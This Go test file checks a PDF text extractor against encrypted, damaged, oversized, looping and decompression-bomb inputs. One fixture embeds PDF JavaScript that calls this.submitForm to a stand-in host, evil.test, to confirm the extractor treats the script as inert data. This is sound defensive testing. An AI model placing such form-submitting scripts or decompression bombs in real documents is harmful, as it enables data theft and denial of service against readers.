package extract

import (
	"bytes"
	"compress/zlib"
	"context"
	"errors"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"
	"unicode/utf8"
)

// pageTexts splits a document's text into its pages.
func pageTexts(d Document) []string {
	var out []string
	for i, s := range d.PageStarts {
		end := len(d.Text)
		if i+1 < len(d.PageStarts) {
			end = d.PageStarts[i+1]
		}
		out = append(out, strings.TrimSpace(d.Text[s:end]))
	}
	return out
}

func wantReason(t *testing.T, err error, r Reason) *Error {
	t.Helper()
	var e *Error
	if !errors.As(err, &e) || e.Reason != r {
		t.Fatalf("err = %v, want reason %s", err, r)
	}
	return e
}

// modulePDFs returns the PDFs under pattern (a glob below the module
// cache), skipping the test when there are none.
func modulePDFs(t *testing.T, pattern string) []string {
	t.Helper()
	out, err := exec.Command("go", "env", "GOMODCACHE").Output()
	if err != nil {
		t.Skipf("no module cache: %v", err)
	}
	files, _ := filepath.Glob(filepath.Join(strings.TrimSpace(string(out)), pattern))
	if len(files) == 0 {
		t.Skipf("no PDFs at %s in the module cache (go mod download fetches them)", pattern)
	}
	return files
}

func TestPDFPagesAndOffsets(t *testing.T) {
	body := buildPDF(pdfSpec{title: "Three pages", flate: true, pages: []string{
		textOps("The first page speaks of rivers."),
		"",
		textOps("The third page speaks of mountains", "and valleys."),
	}})
	d, err := PDF(context.Background(), body, Limits{})
	if err != nil {
		t.Fatal(err)
	}
	if d.Kind != KindPDF || d.Title != "Three pages" || d.PageCount != 3 || d.Truncated || d.Note != "" {
		t.Errorf("doc = %+v", d)
	}
	pages := pageTexts(d)
	want := []string{"The first page speaks of rivers.", "", "The third page speaks of mountains\nand valleys."}
	if strings.Join(pages, "|") != strings.Join(want, "|") {
		t.Fatalf("pages = %q, want %q", pages, want)
	}
	if p := d.PageAt(strings.Index(d.Text, "mountains")); p != 3 {
		t.Errorf("PageAt(mountains) = %d, want 3", p)
	}
	if p := d.PageAt(strings.Index(d.Text, "rivers")); p != 1 {
		t.Errorf("PageAt(rivers) = %d, want 1", p)
	}
	if p := PageAt(nil, 10); p != 0 {
		t.Errorf("PageAt without pages = %d", p)
	}
}

// TestPDFRealFiles reads the Word-made PDFs shipped in a PDF library's
// module (github.com/dslipak/pdf's testdata: one story saved by ten tools
// and settings, linearized, xref streams, PDF/A, simple and Type0 fonts).
func TestPDFRealFiles(t *testing.T) {
	for _, f := range modulePDFs(t, "github.com/dslipak/pdf@v0.0.2/testdata/*.pdf") {
		t.Run(filepath.Base(f), func(t *testing.T) {
			body, err := os.ReadFile(f)
			if err != nil {
				t.Fatal(err)
			}
			d, err := PDF(context.Background(), body, Limits{})
			if err != nil {
				t.Fatalf("PDF: %v", err)
			}
			if d.PageCount < 1 || len(d.PageStarts) != min(d.PageCount, DefaultMaxPages) && !d.Truncated {
				t.Errorf("PageCount %d, %d page starts", d.PageCount, len(d.PageStarts))
			}
			if n := len(strings.Fields(d.Text)); n < 50 {
				t.Errorf("only %d words: %q", n, d.Text)
			}
			if !utf8.ValidString(d.Text) {
				t.Error("invalid UTF-8")
			}
			// The story's first sentence, with its spaces, whether the
			// tool drew it in simple fonts or Type0 (Identity-H) ones.
			const first = "Lorem ipsum dolor sit amet, consetetur sadipscing elitr, sed diam nonumy eirmod tempor invidunt"
			if strings.HasPrefix(filepath.Base(f), "story_") && !strings.Contains(strings.Join(strings.Fields(d.Text), " "), first) {
				t.Errorf("%q not found in %q", first, d.Text[:min(len(d.Text), 300)])
			}
		})
	}
}

func TestPDFEncrypted(t *testing.T) {
	for _, c := range []struct {
		file, detail string
	}{
		{"encrypted-aes256.pdf", "encryption"}, // AES-256: the library cannot decrypt it
		{"encrypted-password.pdf", "password"}, // RC4 128-bit with a user password
	} {
		body, err := os.ReadFile(filepath.Join("testdata", c.file))
		if err != nil {
			t.Fatal(err)
		}
		_, err = PDF(context.Background(), body, Limits{})
		e := wantReason(t, err, ReasonEncrypted)
		if !strings.HasPrefix(e.Error(), "encrypted PDF") || !strings.Contains(e.Error(), c.detail) {
			t.Errorf("%s: message %q", c.file, e.Error())
		}
	}
	// Encrypted without a user password (only editing is restricted):
	// anyone can read it, and so can we.
	body, err := os.ReadFile("testdata/encrypted-open.pdf")
	if err != nil {
		t.Fatal(err)
	}
	d, err := PDF(context.Background(), body, Limits{})
	if err != nil || !strings.Contains(d.Text, "mountains") {
		t.Errorf("open encrypted PDF: %q, %v", d.Text, err)
	}
}

func TestPDFNoTextLayer(t *testing.T) {
	// Pages that only paint (as a scan's pages only place an image).
	body := buildPDF(pdfSpec{pages: []string{"q 612 0 0 792 0 0 cm 0.5 g 0 0 1 1 re f Q\n", ""}})
	_, err := PDF(context.Background(), body, Limits{})
	e := wantReason(t, err, ReasonNoText)
	if e.Error() != "no text layer (scanned images?)" {
		t.Errorf("message %q", e.Error())
	}
}

func TestPDFDamaged(t *testing.T) {
	good := buildPDF(pdfSpec{pages: []string{textOps("A page of text that is whole.")}})
	cases := map[string][]byte{
		"truncated":  good[:len(good)/2],
		"no trailer": bytes.ReplaceAll(good, []byte("startxref"), []byte("startxxxx")),
		"bad xref":   bytes.ReplaceAll(good, []byte("xref\n0 "), []byte("xref\nX ")),
		"header":     []byte("%PDF-"),
		"not a pdf":  []byte("<html>hello</html>"),
	}
	if files := realPDFs(t); len(files) > 0 {
		realPDF, err := os.ReadFile(files[0])
		if err != nil {
			t.Fatal(err)
		}
		cases["truncated real PDF"] = realPDF[:len(realPDF)*2/3]
	}
	for name, body := range cases {
		_, err := PDF(context.Background(), body, Limits{})
		e := wantReason(t, err, ReasonDamaged)
		if !strings.HasPrefix(e.Error(), "damaged PDF") {
			t.Errorf("%s: message %q", name, e.Error())
		}
	}
}

// realPDFs returns the shipped real PDFs, or none.
func realPDFs(t *testing.T) []string {
	out, err := exec.Command("go", "env", "GOMODCACHE").Output()
	if err != nil {
		return nil
	}
	files, _ := filepath.Glob(filepath.Join(strings.TrimSpace(string(out)), "github.com/dslipak/pdf@v0.0.2/testdata/*.pdf"))
	return files
}

func TestPDFDecompressionBomb(t *testing.T) {
	// 32 MiB of text operators (twice the page bound) compress to about 32 KiB.
	var z bytes.Buffer
	w, _ := zlib.NewWriterLevel(&z, zlib.BestCompression)
	line := []byte("(" + strings.Repeat("a", 1000) + ") Tj\n")
	for range 32 << 10 {
		w.Write(line)
	}
	w.Close()
	body := buildPDF(pdfSpec{pages: []string{"BT /F1 12 Tf\n"}, flate: false})
	// Swap the page's small stream for the bomb.
	old := "<< /Length 13 >>\nstream\nBT /F1 12 Tf\n\nendstream"
	bomb := "<< /Filter /FlateDecode /Length " + fmtInt(z.Len()) + " >>\nstream\n" + z.String() + "\nendstream"
	body = rebuildXref(t, bytes.Replace(body, []byte(old), []byte(bomb), 1))
	start := time.Now()
	_, err := PDF(context.Background(), body, Limits{MaxBytes: 1 << 20})
	e := wantReason(t, err, ReasonTooLarge)
	if !strings.Contains(e.Error(), "decompression bomb") {
		t.Errorf("message %q", e.Error())
	}
	if d := time.Since(start); d > 10*time.Second {
		t.Errorf("took %v", d)
	}
}

func fmtInt(n int) string { return strconv.Itoa(n) }

// rebuildXref rewrites the cross-reference table of a PDF made by buildPDF
// after its objects moved.
func rebuildXref(t *testing.T, body []byte) []byte {
	t.Helper()
	x := bytes.LastIndex(body, []byte("\nxref\n")) + 1
	var offs []int
	for i := 1; ; i++ {
		j := bytes.Index(body, []byte("\n"+fmtInt(i)+" 0 obj\n"))
		if j < 0 || j > x {
			break
		}
		offs = append(offs, j+1)
	}
	var b bytes.Buffer
	b.Write(body[:x])
	b.WriteString("xref\n0 " + fmtInt(len(offs)+1) + "\n0000000000 65535 f \n")
	for _, o := range offs {
		s := fmtInt(o)
		b.WriteString(strings.Repeat("0", 10-len(s)) + s + " 00000 n \n")
	}
	b.WriteString("trailer\n<< /Size " + fmtInt(len(offs)+1) + " /Root 1 0 R /Info 4 0 R >>\nstartxref\n" + fmtInt(x) + "\n%%EOF\n")
	return b.Bytes()
}

func TestPDFPageBound(t *testing.T) {
	body := buildPDF(pdfSpec{shared: textOps("The same page again."), sharedN: 5000})
	start := time.Now()
	d, err := PDF(context.Background(), body, Limits{MaxRunes: 1 << 20})
	if err != nil {
		t.Fatal(err)
	}
	if d.PageCount != 5000 || len(d.PageStarts) != DefaultMaxPages || d.Note != "more than 300 pages: read the first 300" {
		t.Errorf("PageCount %d, %d pages read, note %q", d.PageCount, len(d.PageStarts), d.Note)
	}
	t.Logf("5,000 pages: read %d in %v", len(d.PageStarts), time.Since(start))
}

// TestPDFPageBoundQpdf makes a 5,000-page PDF from a real one-page PDF
// with qpdf, as a tool would.
func TestPDFPageBoundQpdf(t *testing.T) {
	if _, err := exec.LookPath("qpdf"); err != nil {
		t.Skip("qpdf is not installed (apt-get install qpdf); TestPDFPageBound covers the bound")
	}
	src := modulePDFs(t, "github.com/ledongthuc/pdf@*/testdata/ascii85_flate_chain.pdf")[0]
	out := filepath.Join(t.TempDir(), "5000.pdf")
	args := []string{"--empty", "--pages"}
	for range 5000 {
		args = append(args, src, "1")
	}
	args = append(args, "--", out)
	if b, err := exec.Command("qpdf", args...).CombinedOutput(); err != nil {
		t.Fatalf("qpdf: %v: %s", err, b)
	}
	body, err := os.ReadFile(out)
	if err != nil {
		t.Fatal(err)
	}
	d, err := PDF(context.Background(), body, Limits{MaxPages: 50, MaxRunes: 1 << 20})
	if err != nil {
		t.Fatal(err)
	}
	if d.PageCount != 5000 || len(d.PageStarts) != 50 || d.Note != "more than 50 pages: read the first 50" {
		t.Errorf("PageCount %d, %d pages read, note %q", d.PageCount, len(d.PageStarts), d.Note)
	}
}

func TestPDFJavaScriptIsData(t *testing.T) {
	js := "app.alert('pwned'); this.submitForm('https://evil.test/')"
	body := buildPDF(pdfSpec{javaScript: js, pages: []string{textOps("Quarterly figures rose by 4 percent.")}})
	d, err := PDF(context.Background(), body, Limits{})
	if err != nil {
		t.Fatal(err)
	}
	if d.Text != "Quarterly figures rose by 4 percent." {
		t.Errorf("Text = %q", d.Text)
	}
}

func TestPDFDeadline(t *testing.T) {
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	_, err := PDF(ctx, buildPDF(pdfSpec{pages: []string{textOps("text")}}), Limits{})
	wantReason(t, err, ReasonTimeout)
	if !errors.Is(err, context.Canceled) {
		t.Errorf("err %v does not wrap the context's error", err)
	}
}

func TestPDFTextCap(t *testing.T) {
	var pages []string
	for range 10 {
		pages = append(pages, textOps(strings.Repeat("word ", 100)))
	}
	d, err := PDF(context.Background(), buildPDF(pdfSpec{pages: pages}), Limits{MaxRunes: 1200})
	if err != nil {
		t.Fatal(err)
	}
	if !d.Truncated || utf8.RuneCountInString(d.Text) > 1200 || len(d.PageStarts) != 3 {
		t.Errorf("Truncated %v, %d runes, %d pages", d.Truncated, utf8.RuneCountInString(d.Text), len(d.PageStarts))
	}
}

func TestPDFTooLarge(t *testing.T) {
	_, err := PDF(context.Background(), buildPDF(pdfSpec{pages: []string{textOps("x")}}), Limits{MaxBytes: 100})
	wantReason(t, err, ReasonTooLarge)
}

func FuzzPDF(f *testing.F) {
	seeds := [][]byte{
		buildPDF(pdfSpec{title: "t", pages: []string{textOps("hello (world)"), ""}, flate: true}),
		buildPDF(pdfSpec{javaScript: "app.alert(1)", pages: []string{textOps("x")}}),
		[]byte("%PDF-1.7\n%%EOF\n"),
	}
	for _, s := range seeds[:2] {
		seeds = append(seeds, s[:len(s)/2], s[len(s)/3:])
	}
	for _, name := range []string{"encrypted-open.pdf", "encrypted-password.pdf"} {
		if b, err := os.ReadFile(filepath.Join("testdata", name)); err == nil {
			seeds = append(seeds, b)
		}
	}
	for _, s := range seeds {
		f.Add(s)
	}
	lim := Limits{MaxBytes: 1 << 20, MaxPages: 20, MaxPageBytes: 4 << 20, MaxRunes: 2000}
	f.Fuzz(func(t *testing.T, data []byte) {
		ctx, cancel := context.WithTimeout(context.Background(), 2*time.Second)
		defer cancel()
		start := time.Now()
		d, err := PDF(ctx, data, lim)
		if took := time.Since(start); took > 5*time.Second {
			t.Fatalf("PDF took %v on %d bytes", took, len(data))
		}
		if err != nil {
			var e *Error
			if !errors.As(err, &e) {
				t.Fatalf("error %T %v is not an *Error", err, err)
			}
			return
		}
		if utf8.RuneCountInString(d.Text) > lim.MaxRunes || !utf8.ValidString(d.Text) || !utf8.ValidString(d.Title) {
			t.Fatalf("text of %d runes, valid %v", utf8.RuneCountInString(d.Text), utf8.ValidString(d.Text))
		}
		if len(d.PageStarts) > lim.MaxPages || len(d.PageStarts) > d.PageCount {
			t.Fatalf("%d page starts of %d pages", len(d.PageStarts), d.PageCount)
		}
		for i, s := range d.PageStarts {
			if s < 0 || s > len(d.Text) || i > 0 && s < d.PageStarts[i-1] {
				t.Fatalf("page starts %v for %d bytes", d.PageStarts, len(d.Text))
			}
		}
		if strings.TrimSpace(d.Text) == "" {
			t.Fatal("success with no text")
		}
	})
}

// TestPDFLoopsEnd: a page tree whose node is its own kid sends the
// library round the same objects for ever; the bounded reader ends it.
func TestPDFLoopsEnd(t *testing.T) {
	good := buildPDF(pdfSpec{pages: []string{textOps("A page.")}})
	cyclic := bytes.Replace(good, []byte("/Kids [6 0 R ]"), []byte("/Kids [2 0 R ]"), 1)
	if bytes.Equal(good, cyclic) {
		t.Fatal("fixture did not change")
	}
	start := time.Now()
	_, err := PDF(context.Background(), cyclic, Limits{})
	e := wantReason(t, err, ReasonDamaged)
	if !strings.Contains(e.Error(), "loop") {
		t.Errorf("message %q", e.Error())
	}
	t.Logf("%v after %v", e, time.Since(start))

	// The same file under a deadline stops at the deadline.
	ctx, cancel := context.WithTimeout(context.Background(), 50*time.Millisecond)
	defer cancel()
	_, err = PDF(ctx, cyclic, Limits{})
	wantReason(t, err, ReasonTimeout)
}

// PageAt returns the page (from 1) on which the byte offset off of Text
// lies, or 0 when the document has no pages.
func (d Document) PageAt(off int) int { return PageAt(d.PageStarts, off) }

// PageAt returns the page (from 1) on which byte offset off lies, given the
// pages' start offsets, or 0 when starts is empty.
func PageAt(starts []int, off int) int {
	n := 0
	for i, s := range starts {
		if s > off {
			break
		}
		n = i + 1
	}
	return n
}
